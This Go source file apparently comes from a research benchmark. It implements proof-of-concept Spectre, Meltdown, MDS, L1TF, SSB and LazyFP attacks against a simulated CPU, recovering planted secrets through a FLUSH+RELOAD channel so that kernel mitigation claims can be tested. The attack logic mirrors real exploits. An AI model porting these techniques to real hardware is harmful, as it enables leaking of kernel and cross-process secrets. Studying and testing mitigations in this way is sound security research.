// Package attacks implements working proofs-of-concept of every
// transient-execution attack the paper studies, running against the
// simulated CPU. Each PoC takes the lowered kernel.Mitigations and
// returns whether the secret actually leaked, which makes the
// mitigation claims of Table 1 testable: an attack must succeed on a
// vulnerable, unmitigated configuration and fail once the corresponding
// mitigation (or a fixed CPU) is in place. The PoCs are reached through
// the taxonomy's Attack.Leaks.
//
// All PoCs use FLUSH+RELOAD over a 256-line probe array as the covert
// channel, timed in-program with rdtsc like a real attacker would.
package attacks

import (
	"spectrebench/internal/cpu"
	"spectrebench/internal/isa"
	"spectrebench/internal/kernel"
	"spectrebench/internal/mem"
	"spectrebench/internal/model"
)

// Address layout for raw-core PoCs.
const (
	pocCode   = 0x40_0000
	pocData   = 0x80_0000
	pocProbe  = 0x90_0000
	pocStack  = 0xa0_0000
	pocKernel = 0xc0_0000
	pocResult = pocData + 0x3000 // leaked byte written here by the PoC
)

// pocCore builds a bare user-mode machine (no kernel) for PoCs that
// exercise the hardware directly.
func pocCore(m *model.CPU) *cpu.Core {
	c := cpu.New(m)
	pt := c.PTs.NewTable(1)
	pt.MapRange(pocCode, pocCode, 16, false, true, false, false)
	pt.MapRange(pocData, pocData, 64, true, true, true, false)
	pt.MapRange(pocProbe, pocProbe, 256*64/mem.PageSize+1, true, true, true, false)
	pt.MapRange(pocStack-16*mem.PageSize, pocStack-16*mem.PageSize, 16, true, true, true, false)
	pt.MapRange(pocKernel, pocKernel, 4, true, false, true, true)
	c.SetPageTable(pt)
	c.Regs[isa.SP] = pocStack
	c.OnTrap = func(_ *cpu.Core, _ cpu.Fault) cpu.TrapAction { return cpu.TrapSkip }
	return c
}

// emitFlushProbe flushes all 256 probe lines (r4 = probe base).
func emitFlushProbe(a *isa.Asm) {
	a.MovI(isa.R4, pocProbe)
	a.MovI(isa.R5, 0)
	a.Label("flush_loop")
	a.Mov(isa.R6, isa.R5)
	a.ShlI(isa.R6, 6)
	a.Add(isa.R6, isa.R4)
	a.Clflush(isa.R6, 0)
	a.AddI(isa.R5, 1)
	a.CmpI(isa.R5, 256)
	a.Jne("flush_loop")
}

// emitReload times every probe line with rdtsc and records the fastest
// (the cached one) into [pocResult]. threshold separates L1 hits from
// misses on every model we simulate.
func emitReload(a *isa.Asm) {
	a.MovI(isa.R4, pocProbe)
	a.MovI(isa.R5, 0)  // index
	a.MovI(isa.R9, ^0) // best latency so far
	a.MovI(isa.R12, 0) // best index
	a.Label("reload_loop")
	a.Mov(isa.R6, isa.R5)
	a.ShlI(isa.R6, 6)
	a.Add(isa.R6, isa.R4)
	a.Rdtsc(isa.R7)
	a.Load(isa.R8, isa.R6, 0)
	a.Rdtsc(isa.R10)
	a.Sub(isa.R10, isa.R7) // latency
	a.Cmp(isa.R10, isa.R9)
	a.CmovLt(isa.R9, isa.R10) // track min latency...
	// ...and its index: recompute the comparison for the index cmov.
	a.Cmp(isa.R10, isa.R9)
	a.CmovEq(isa.R12, isa.R5)
	a.AddI(isa.R5, 1)
	a.CmpI(isa.R5, 256)
	a.Jne("reload_loop")
	a.MovI(isa.R6, pocResult)
	a.Store(isa.R6, 0, isa.R12)
}

// leaked executes the program and reports whether the byte recovered
// via the covert channel is the planted secret.
func leaked(c *cpu.Core, p *isa.Program, secret byte) (bool, error) {
	c.LoadProgram(p)
	c.PC = p.Base
	c.Regs[isa.SP] = pocStack
	if err := c.RunUntilHalt(3_000_000); err != nil {
		return false, err
	}
	return byte(c.Phys.Read64(pocResult)) == secret, nil
}

// spectreV1 runs the bounds-check-bypass attack: train a bounds check
// in-bounds, then strike out-of-bounds. Under the kernel's Spectre V1
// mitigation the victim masks the index before the dependent load.
func spectreV1(m *model.CPU, mit kernel.Mitigations) (bool, error) {
	const secret = 0x5a
	const secretOff = 400 // elements past the bounds
	c := pocCore(m)
	defer c.Recycle()
	c.Phys.Write64(pocData+secretOff*8, secret)

	a := isa.NewAsm()
	// Train the bounds check in-bounds, then strike out-of-bounds.
	a.MovI(isa.R15, pocStack)
	a.MovI(isa.R0, 0) // attempt index: 0..15 train, 16 attack
	a.Label("attempt")
	a.MovI(isa.R1, 3) // in-bounds index
	a.CmpI(isa.R0, 16)
	a.MovI(isa.R2, secretOff)
	a.CmovEq(isa.R1, isa.R2) // 17th run: out-of-bounds index
	// Victim: if (idx < len) y = probe[array[idx] * 64]
	a.MovI(isa.R2, pocData)
	a.MovI(isa.R3, 16) // array length
	a.MovI(isa.R13, 0) // zero for masking
	a.Cmp(isa.R1, isa.R3)
	a.Jge("out_of_bounds")
	if mit.SpectreV1 {
		// array_index_nospec: clamp the index without a branch.
		a.Cmp(isa.R1, isa.R3)
		a.CmovGe(isa.R1, isa.R13)
	}
	a.Mov(isa.R5, isa.R1)
	a.ShlI(isa.R5, 3)
	a.Add(isa.R5, isa.R2)
	a.Load(isa.R6, isa.R5, 0)
	a.AndI(isa.R6, 0xff)
	a.ShlI(isa.R6, 6)
	a.MovI(isa.R4, pocProbe)
	a.Add(isa.R6, isa.R4)
	a.Load(isa.R7, isa.R6, 0)
	a.Label("out_of_bounds")
	a.AddI(isa.R0, 1)
	a.CmpI(isa.R0, 16)
	a.Jne("next_or_done")
	// Before the attack run: flush the probe array.
	emitFlushProbe(a)
	a.Label("next_or_done")
	a.CmpI(isa.R0, 17)
	a.Jne("attempt")
	emitReload(a)
	a.Hlt()

	return leaked(c, a.MustAssemble(pocCode), secret)
}

// meltdown attempts to read a byte of kernel memory from user mode.
// Under PTI the kernel page is absent from the user-visible table.
func meltdown(m *model.CPU, mit kernel.Mitigations) (bool, error) {
	const secret = 0x61
	c := pocCore(m)
	defer c.Recycle()
	c.Phys.Write64(pocKernel, secret)
	if mit.PTI {
		pt := c.PageTable()
		for i := uint64(0); i < 4; i++ {
			pt.Unmap(mem.VPN(pocKernel) + i)
		}
	}

	a := isa.NewAsm()
	emitFlushProbe(a)
	a.MovI(isa.R1, pocKernel)
	a.MovI(isa.R4, pocProbe)
	a.Load(isa.R2, isa.R1, 0) // faults; transient continuation leaks
	a.AndI(isa.R2, 0xff)
	a.ShlI(isa.R2, 6)
	a.Add(isa.R2, isa.R4)
	a.Load(isa.R3, isa.R2, 0)
	emitReload(a)
	a.Hlt()

	return leaked(c, a.MustAssemble(pocCode), secret)
}

// mds samples stale fill-buffer contents through a faulting load. The
// same-thread victim is the kernel, whose activity left the secret in
// the buffers before the return to user mode clears them (MDSClear).
// The cross-thread victim is a concurrently running SMT sibling, whose
// load lands in the shared buffers after the attacker's own verw, so
// only disabling SMT (no sibling at all) removes it.
func mds(m *model.CPU, mit kernel.Mitigations, crossSMT bool) (bool, error) {
	const secret = 0x77
	c := pocCore(m)
	defer c.Recycle()
	var sib *cpu.Core
	if !crossSMT {
		c.FB.Deposit(secret)
	} else if !mit.NoSMT {
		sib = cpu.NewSMTSibling(c)
	}

	a := isa.NewAsm()
	emitFlushProbe(a)
	if mit.MDSClear {
		a.Verw()
	}
	if sib != nil {
		a.Hlt() // the sibling's load lands here, after the verw
	}
	a.Label("sample")
	a.MovI(isa.R1, 0x7fff_0000) // unmapped: the faulting sampler load
	a.MovI(isa.R4, pocProbe)
	a.Load(isa.R2, isa.R1, 0)
	a.AndI(isa.R2, 0xff)
	a.ShlI(isa.R2, 6)
	a.Add(isa.R2, isa.R4)
	a.Load(isa.R3, isa.R2, 0)
	emitReload(a)
	a.Hlt()

	p := a.MustAssemble(pocCode)
	if sib == nil {
		return leaked(c, p, secret)
	}
	c.LoadProgram(p)
	c.PC = p.Base
	if err := c.RunUntilHalt(3_000_000); err != nil {
		return false, err
	}
	sib.FB.Deposit(secret)
	c.ClearHalt()
	c.PC = p.LabelAddr("sample")
	if err := c.RunUntilHalt(3_000_000); err != nil {
		return false, err
	}
	return byte(c.Phys.Read64(pocResult)) == secret, nil
}

// ssb runs the Speculative Store Bypass attack: a load transiently
// bypasses an in-flight store and observes the stale secret. The victim
// runs with SSBD when the kernel forces it everywhere, or when it is
// seccomp-sandboxed and the kernel applies SSBD to such tasks.
func ssb(m *model.CPU, mit kernel.Mitigations, sandboxed bool) (bool, error) {
	const secret = 0x42
	c := pocCore(m)
	defer c.Recycle()
	if mit.SSBDAlways || sandboxed && mit.SSBDSeccomp {
		c.SetMSR(cpu.MSRSpecCtrl, cpu.SpecCtrlSSBD)
	}
	c.Phys.Write64(pocData+0x100, secret)

	a := isa.NewAsm()
	emitFlushProbe(a)
	a.MovI(isa.R1, pocData+0x100)
	a.MovI(isa.R2, 0)
	a.MovI(isa.R4, pocProbe)
	a.Store(isa.R1, 0, isa.R2) // overwrite the secret
	a.Load(isa.R3, isa.R1, 0)  // bypass window sees the stale value
	a.AndI(isa.R3, 0xff)
	a.ShlI(isa.R3, 6)
	a.Add(isa.R3, isa.R4)
	a.Load(isa.R5, isa.R3, 0)
	emitReload(a)
	a.Hlt()

	return leaked(c, a.MustAssemble(pocCode), secret)
}

// l1tf exploits a non-present PTE whose frame bits point at data
// resident in the L1. Under PTE inversion the kernel never leaves a
// cacheable frame in a non-present entry.
func l1tf(m *model.CPU, mit kernel.Mitigations) (bool, error) {
	const secret = 0x33
	c := pocCore(m)
	defer c.Recycle()
	// The victim's secret is resident in the L1 at a host physical
	// address the attacker cannot architecturally reach.
	secretPA := uint64(0xdead000)
	c.Phys.Write64(secretPA, secret)
	c.L1.Touch(secretPA)

	// Attacker-crafted PTE: not present, frame bits = secret's frame.
	pt := c.PageTable()
	evilVA := uint64(0x7000_0000)
	framePhys := mem.PageBase(secretPA)
	if mit.PTEInversion {
		framePhys = 0 // inverted: no cacheable frame reachable
	}
	pt.Map(mem.VPN(evilVA), mem.PTE{Phys: framePhys, Present: false, User: true})

	a := isa.NewAsm()
	emitFlushProbe(a)
	// Refresh the victim line (the probe flush evicted nothing there,
	// but keep the PoC self-contained).
	a.MovI(isa.R1, int64(evilVA+(secretPA&mem.PageMask)))
	a.MovI(isa.R4, pocProbe)
	a.Load(isa.R2, isa.R1, 0) // terminal fault: leaks L1 contents
	a.AndI(isa.R2, 0xff)
	a.ShlI(isa.R2, 6)
	a.Add(isa.R2, isa.R4)
	a.Load(isa.R3, isa.R2, 0)
	emitReload(a)
	a.Hlt()

	return leaked(c, a.MustAssemble(pocCode), secret)
}

// lazyFP leaks the previous FPU owner's register transiently. Under
// eager FPU switching the current process's state is always loaded and
// no #NM trap opens the window.
func lazyFP(m *model.CPU, mit kernel.Mitigations) (bool, error) {
	const secret = 0x2c
	c := pocCore(m)
	defer c.Recycle()
	if mit.EagerFPU {
		c.FPUEnabled = true
		c.FRegs[3] = 0 // current process's state is loaded
	} else {
		c.FPUEnabled = false
		c.FRegs[3] = secret // stale: previous owner's register
	}
	c.OnTrap = func(cc *cpu.Core, f cpu.Fault) cpu.TrapAction {
		if f.Kind == cpu.FaultFPUDisabled {
			cc.FPUEnabled = true
			cc.FRegs[3] = 0 // lazy restore of the current process
			return cpu.TrapRetry
		}
		return cpu.TrapSkip
	}

	a := isa.NewAsm()
	emitFlushProbe(a)
	a.MovI(isa.R4, pocProbe)
	a.FToI(isa.R2, 3) // traps under lazy FPU; transient sees the secret
	a.AndI(isa.R2, 0xff)
	a.ShlI(isa.R2, 6)
	a.Add(isa.R2, isa.R4)
	a.Load(isa.R3, isa.R2, 0)
	emitReload(a)
	a.Hlt()

	return leaked(c, a.MustAssemble(pocCode), secret)
}

// spectreV2User trains the BTB to hijack an indirect branch into a
// divide-containing gadget, then runs the victim branch as another
// process would after a context switch, and reports whether the gadget
// executed transiently (observed via the divider-active counter, §6).
// Under IBPB the kernel issues the barrier on that switch.
func spectreV2User(m *model.CPU, mit kernel.Mitigations) (bool, error) {
	c := pocCore(m)
	defer c.Recycle()

	a := isa.NewAsm()
	a.Jmp("main")
	// The branch site embeds a history-filling loop so the branch
	// history at the indirect call matches between training and the
	// victim run (real exploits align history the same way).
	a.Label("branch_site")
	a.MovI(isa.R12, 32)
	a.Label("v2_fill")
	a.SubI(isa.R12, 1)
	a.CmpI(isa.R12, 0)
	a.Jne("v2_fill")
	a.CallInd(isa.R11)
	a.Ret()
	a.Label("victim_target")
	a.MovI(isa.R1, 12345)
	a.MovI(isa.R2, 6789)
	a.Div(isa.R1, isa.R2)
	a.Ret()
	a.Label("nop_target")
	a.Ret()
	a.Label("main")
	// Train 32 times.
	a.MovI(isa.R9, 32)
	a.MovLabel(isa.R11, "victim_target")
	a.Label("train")
	a.Call("branch_site")
	a.SubI(isa.R9, 1)
	a.CmpI(isa.R9, 0)
	a.Jne("train")
	a.Hlt() // the context switch: the host issues IBPB here
	// Victim run with the benign target; divider delta is the signal.
	a.Label("victim_run")
	a.MovLabel(isa.R11, "nop_target")
	a.Rdpmc(isa.R8, 2) // ArithDividerActive
	a.Call("branch_site")
	a.Rdpmc(isa.R9, 2)
	a.Sub(isa.R9, isa.R8)
	a.MovI(isa.R6, pocResult)
	a.Store(isa.R6, 0, isa.R9)
	a.Hlt()

	p := a.MustAssemble(pocCode)
	c.LoadProgram(p)
	c.PC = p.Base
	if err := c.RunUntilHalt(1_000_000); err != nil {
		return false, err
	}
	if mit.IBPB {
		c.SetMSR(cpu.MSRPredCmd, 1)
	}
	c.ClearHalt()
	c.PC = p.LabelAddr("victim_run")
	if err := c.RunUntilHalt(1_000_000); err != nil {
		return false, err
	}
	return c.Phys.Read64(pocResult) > 0, nil
}
